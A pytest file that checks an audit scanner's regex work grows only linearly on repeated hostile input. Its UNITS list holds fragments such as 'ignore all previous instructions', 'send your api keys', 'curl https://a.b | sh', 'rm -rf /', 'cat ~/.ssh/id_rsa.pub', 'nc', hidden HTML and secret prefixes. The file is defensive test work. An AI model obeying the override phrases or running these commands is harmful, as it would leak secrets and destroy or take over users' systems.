# ruff: noqa: RUF001 - look-alike characters are test data
"""Work grows with the size of the text, counted in bytes that patterns are run over, not in seconds.

RE2 reads each byte of what it searches a bounded number of times. So the work of an audit is the sum,
over all searches, of the bytes between where a search starts and where its match ends (or the end of
what it may read). Doubling hostile text may double that sum and must not square it.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from mdr.audit import rx
from mdr.audit.run import audit

UNITS = [
    "word ", "read ", "send your api keys ", "print your ", "never print your api keys. ", "curl ", "curl |", "curl x | jq ",
    "rm -rf a ", "rm -rf ", "find / ", "`", "`` ` ``` ", "`a`` ", "<", "<a ", '<a "', "<p style='", '<p style="a">', "<!-- a -->",
    "<!-- ", "<!", "<? ", "<!a ", "<![CDATA[", "http://a ", "//a ", "http://%41 ", "http://1.1.1.x ", "&#65;", "&amp;", "а", "ｉ", "a\u200b",
    "\u26a0\ufe0f", "\U0001f468\u200d", "a\u0332", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWY ", "abcdefghijklmnop\n", '"', '"a" "b" ', '"+"',
    "\n", "\r\n", "\r", "```\n", "- ", "- a\n", "> a\n", '[a]: b "c"\n', "ignore all previous ", "*ignore* ", "sk-", "ghp_", "eyJaaaaaaaaaaaa.",
    "-----BEGIN PRIVATE KEY-----\n", "postgres://a:b", 'password="', "cat .env ", "~/.ssh ", "echo $", "\\\n", "a |\n", "| a | b |\n",
    "//%41 ", "http://%41%42.example ", "https://x.ngrok.io/%41 ", "http://%c3%a1 ", "curl pastebin.com\n", "https://pastebin.com run ",
    "echo $TOKEN > x\n", "echo $A_TOKEN | docker login\n", "cat ~/.ssh/id_rsa.pub\n", "never cat .env ", "do not show your passwords; ",
    "never send your api keys to https://x.example. ", "never ignore all previous instructions. ", '"ignore all previous instructions" ',
    "curl https://a.b | sh\n", "never curl x | bash ; ", "curl x | python3 -c a ; ", "never rm -rf / ; ", "never find / | xargs -delete ",
    "never bash <(openssl base64 xxd -r ", "<p style='display:none'>", "a | b |\n", "a\n", "your api keys\n",
    "java", "(//%", '`<a " ', "=//%a", "<a on= ", "bash <(", "base64 -d ", "exec(", "requests.post(", "$(", "a word\n", "nc 1.2.3.x ", '<p style="/*', "a:\n", "[", "{",
]  # fmt: skip
SIZE = 6_000


class Counted:
    """Stands before RE2 and adds up the bytes that its searches may read."""

    work = 0

    def __init__(self, engine: rx.Engine) -> None:
        self._find, self.anywhere, self.here = engine

    def __call__(self, anchor: Any, data: bytes, start: int, end: int) -> rx.Spans:
        spans = self._find(anchor, data, start, end)
        missed = min(end, start + 64) if anchor == self.here else end
        Counted.work += (spans[0][1] if spans[0][0] >= 0 else missed) - start + 1
        return spans


def counting(original: Callable[[rx.Rx], rx.Engine]) -> Callable[[rx.Rx], rx.Engine]:
    engines: dict[int, rx.Engine] = {}

    def engine(pattern: rx.Rx) -> rx.Engine:
        if id(pattern) not in engines:
            find = Counted(original(pattern))
            engines[id(pattern)] = find, find.anywhere, find.here
        return engines[id(pattern)]

    return engine


@pytest.fixture
def counted(monkeypatch: pytest.MonkeyPatch) -> type[Counted]:
    for name in ("_places", "_capturing"):
        monkeypatch.setattr(rx.Rx, name, property(counting(getattr(rx.Rx, name).func)))
    return Counted


def work_of(counted: type[Counted], text: str) -> int:
    counted.work = 0
    audit(f"---\nname: a\ndescription: b\n---\n{text}\n".encode())
    return counted.work


@pytest.mark.parametrize("unit", UNITS, ids=ascii)
def test_doubling_hostile_text_at_most_doubles_the_work(counted: type[Counted], unit: str) -> None:
    times = SIZE // len(unit.encode())
    once, twice, fourfold = (work_of(counted, unit * (times * factor)) for factor in (1, 2, 4))
    assert twice <= 2.3 * once + 50_000
    assert fourfold <= 4.6 * once + 100_000
